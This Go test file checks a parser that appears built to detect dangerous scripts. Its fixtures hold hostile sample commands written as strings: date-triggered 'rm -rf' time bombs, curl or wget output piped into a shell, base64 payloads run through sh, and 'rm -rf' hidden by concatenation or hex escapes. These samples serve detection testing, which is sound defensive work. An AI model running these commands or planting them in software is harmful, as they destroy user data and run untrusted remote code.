package script

import (
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func findCall(p *Program, callee string) *CallSite {
	for i := range p.Calls {
		if p.Calls[i].Callee == callee {
			return &p.Calls[i]
		}
	}
	return nil
}

func TestParseUnsupported(t *testing.T) {
	_, err := Parse("ruby", "puts 1")
	require.Error(t, err)
	assert.ErrorIs(t, err, ErrUnsupported)
}

func TestPythonImportsAndCalls(t *testing.T) {
	src := `import subprocess as sp
from os import system as run_it
import base64

payload = base64.b64decode("ZWNobyBoaQ==")
sp.call(payload, shell=True)
run_it("ls")
`
	p, err := Parse("python", src)
	require.NoError(t, err)

	b := p.Lookup("sp", 6)
	require.NotNil(t, b)
	assert.True(t, b.Import)
	assert.Equal(t, "subprocess", b.Value.Value)

	b = p.Lookup("run_it", 7)
	require.NotNil(t, b)
	assert.Equal(t, "os.system", b.Value.Value)

	call := findCall(p, "sp.call")
	require.NotNil(t, call)
	assert.Equal(t, 6, call.Line)
	require.NotEmpty(t, call.Positional())
	assert.Equal(t, Name, call.Positional()[0].Kind)
	assert.NotNil(t, call.Keyword("shell"))

	payload := p.Lookup("payload", 6)
	require.NotNil(t, payload)
	assert.Equal(t, Call, payload.Value.Kind)
	assert.Equal(t, "base64.b64decode", payload.Value.Callee)
}

func TestPythonGatesAndElse(t *testing.T) {
	src := `import datetime, os

if datetime.date.today() > datetime.date(2030, 1, 1):
    os.system("rm -rf ~")
else:
    print("ok")
os.remove("x")
`
	p, err := Parse("python", src)
	require.NoError(t, err)

	sys := findCall(p, "os.system")
	require.NotNil(t, sys)
	require.GreaterOrEqual(t, sys.Gate, 0)
	assert.True(t, p.Temporal(sys.Gate))

	pr := findCall(p, "print")
	require.NotNil(t, pr)
	require.GreaterOrEqual(t, pr.Gate, 0)
	assert.Contains(t, p.Gates[pr.Gate].Cond, "not (")

	rm := findCall(p, "os.remove")
	require.NotNil(t, rm)
	assert.Equal(t, -1, rm.Gate)
}

func TestPythonConcatAndLiterals(t *testing.T) {
	src := `a = "rm -"
b = "rf /"
cmd = a + b
description = "Formats markdown tables"
prompt = f"Hello {name}"
`
	p, err := Parse("python", src)
	require.NoError(t, err)

	cmd := p.Lookup("cmd", 3)
	require.NotNil(t, cmd)
	assert.Equal(t, Concat, cmd.Value.Kind)
	assert.Len(t, cmd.Value.Args, 2)

	require.Len(t, p.Literals, 1)
	assert.Equal(t, "description", p.Literals[0].Name)
	assert.Equal(t, "Formats markdown tables", p.Literals[0].Value)
}

func TestJavaScriptRequireAndDestructure(t *testing.T) {
	src := `const cp = require('child_process');
const { exec: run } = require("child_process")
import fs from 'fs'

function go(cmd) {
  run(cmd)
}
cp.execSync("ls")
fs.rmSync(path, { recursive: true })
`
	p, err := Parse("javascript", src)
	require.NoError(t, err)

	b := p.Lookup("cp", 8)
	require.NotNil(t, b)
	assert.Equal(t, "child_process", b.Value.Value)
	assert.True(t, b.Import)

	b = p.Lookup("run", 6)
	require.NotNil(t, b)
	assert.Equal(t, "child_process.exec", b.Value.Value)

	assert.NotNil(t, findCall(p, "run"))
	assert.NotNil(t, findCall(p, "cp.execSync"))
	assert.NotNil(t, findCall(p, "fs.rmSync"))
}

func TestJavaScriptIfElseGates(t *testing.T) {
	src := `if (new Date().getFullYear() >= 2030) {
  require('child_process').exec('curl x | sh')
} else if (flag) {
  a()
} else {
  b()
}
c()
`
	p, err := Parse("javascript", src)
	require.NoError(t, err)

	ex := findCall(p, "child_process.exec")
	require.NotNil(t, ex)
	assert.True(t, p.Temporal(ex.Gate))

	a := findCall(p, "a")
	require.NotNil(t, a)
	assert.Contains(t, p.Gates[a.Gate].Cond, "flag")

	b := findCall(p, "b")
	require.NotNil(t, b)
	assert.GreaterOrEqual(t, b.Gate, 0)

	c := findCall(p, "c")
	require.NotNil(t, c)
	assert.Equal(t, -1, c.Gate)
}

func TestJavaScriptTemplateAndJoin(t *testing.T) {
	src := "const x = `rm ${flags} /tmp`\nconst y = ['cu', 'rl'].join('')\n"
	p, err := Parse("javascript", src)
	require.NoError(t, err)

	x := p.Lookup("x", 1)
	require.NotNil(t, x)
	assert.Equal(t, Concat, x.Value.Kind)

	y := p.Lookup("y", 2)
	require.NotNil(t, y)
	text, ok := LiteralText(y.Value)
	require.True(t, ok)
	assert.Equal(t, "curl", text)
}

func TestShellPipeAndSubstitution(t *testing.T) {
	src := `#!/bin/bash
curl -fsSL https://example.com/install.sh | sudo bash
echo aGVsbG8= | base64 -d | sh
X=$(wget -qO- http://x)
bash -c "$X"
`
	p, err := Parse("shell", src)
	require.NoError(t, err)

	var shells []*CallSite
	for i := range p.Calls {
		if p.Calls[i].Callee == "sh" {
			shells = append(shells, &p.Calls[i])
		}
	}
	require.Len(t, shells, 2)
	stdin := shells[0].Keyword("stdin")
	require.NotNil(t, stdin)
	assert.Equal(t, "curl", stdin.Callee)

	stdin = shells[1].Keyword("stdin")
	require.NotNil(t, stdin)
	assert.Equal(t, "base64 -d", stdin.Callee)

	inline := findCall(p, "sh -c")
	require.NotNil(t, inline)
	require.Len(t, inline.Args, 1)
	assert.Equal(t, Name, inline.Args[0].Kind)

	x := p.Lookup("X", 5)
	require.NotNil(t, x)
	assert.Equal(t, "wget", x.Value.Callee)
}

func TestShellInlineBodyAndGates(t *testing.T) {
	src := `if [ "$(date +%Y)" -ge 2030 ]; then
  bash -c 'rm -rf "$HOME"'
fi
[ -f /tmp/flag ] && curl http://x
`
	p, err := Parse("shell", src)
	require.NoError(t, err)

	rm := findCall(p, "rm")
	require.NotNil(t, rm)
	assert.Equal(t, 2, rm.Line)
	assert.True(t, p.Temporal(rm.Gate))

	curl := findCall(p, "curl")
	require.NotNil(t, curl)
	require.GreaterOrEqual(t, curl.Gate, 0)
	assert.False(t, p.Temporal(curl.Gate))
}

func TestShellDynamicCommand(t *testing.T) {
	src := "CMD='rm -rf /'\n$CMD\nalias cleanup='rm -rf'\n"
	p, err := Parse("shell", src)
	require.NoError(t, err)

	assert.NotNil(t, findCall(p, "$CMD"))
	b := p.Lookup("cleanup", 3)
	require.NotNil(t, b)
	assert.Equal(t, "rm -rf", b.Value.Value)
}

func TestGoImportsAndGates(t *testing.T) {
	src := `package main

import (
	"os/exec"
	"time"
)

func main() {
	if time.Now().After(time.Date(2030, 1, 1, 0, 0, 0, 0, time.UTC)) {
		exec.Command("sh", "-c", "rm -rf /").Run()
	}
	cmd := "ls " + os.Args[1]
	_ = cmd
}
`
	p, err := Parse("go", src)
	require.NoError(t, err)

	imp := p.Lookup("exec", 10)
	require.NotNil(t, imp)
	assert.Equal(t, "os/exec", imp.Value.Value)

	run := findCall(p, "exec.Command")
	require.NotNil(t, run)
	assert.True(t, p.Temporal(run.Gate))

	cmd := p.Lookup("cmd", 13)
	require.NotNil(t, cmd)
	assert.Equal(t, Concat, cmd.Value.Kind)
}

func TestLexerDecodesEscapes(t *testing.T) {
	toks, err := lex(`x = "\x72\x6d\x20-rf"`, dialectPython)
	require.NoError(t, err)
	var values []string
	for _, tk := range toks {
		if tk.kind == tkString {
			values = append(values, tk.value)
		}
	}
	assert.Equal(t, []string{"rm -rf"}, values)
}

func TestLexerUnterminatedString(t *testing.T) {
	_, err := Parse("python", "x = 'oops\n")
	require.Error(t, err)
}

func TestIsNaturalLanguageName(t *testing.T) {
	tests := []struct {
		name string
		want bool
	}{
		{"description", true},
		{"TOOL_DESCRIPTION", true},
		{"self.system_prompt", true},
		{"cfg.path", false},
		{"count", false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			assert.Equal(t, tt.want, IsNaturalLanguageName(tt.name))
		})
	}
}

func TestAugmentedAssignmentRefersToPreviousBinding(t *testing.T) {
	tests := []struct {
		lang string
		src  string
		name string
	}{
		{"python", "cmd = 'rm'\ncmd += ' -rf'\n", "cmd"},
		{"javascript", "let cmd = 'rm'\ncmd += ' -rf'\n", "cmd"},
		{"shell", "CMD=rm\nCMD+=' -rf'\n", "CMD"},
		{"go", "package main\n\nfunc main() {\n\tcmd := \"rm\"\n\tcmd += \" -rf\"\n\t_ = cmd\n}\n", "cmd"},
	}

	for _, tt := range tests {
		t.Run(tt.lang, func(t *testing.T) {
			p, err := Parse(tt.lang, tt.src)
			require.NoError(t, err)

			var last *Binding
			for i := range p.Bindings {
				if p.Bindings[i].Name == tt.name {
					last = &p.Bindings[i]
				}
			}
			require.NotNil(t, last)
			require.Equal(t, Concat, last.Value.Kind)
			require.NotEmpty(t, last.Value.Args)
			assert.Equal(t, tt.name, last.Value.Args[0].Value)

			prev := p.Previous(last)
			require.NotNil(t, prev)
			assert.Less(t, prev.Line, last.Line)
			text, ok := LiteralText(prev.Value)
			require.True(t, ok)
			assert.Equal(t, "rm", text)
			assert.Nil(t, p.Previous(prev))
		})
	}
}
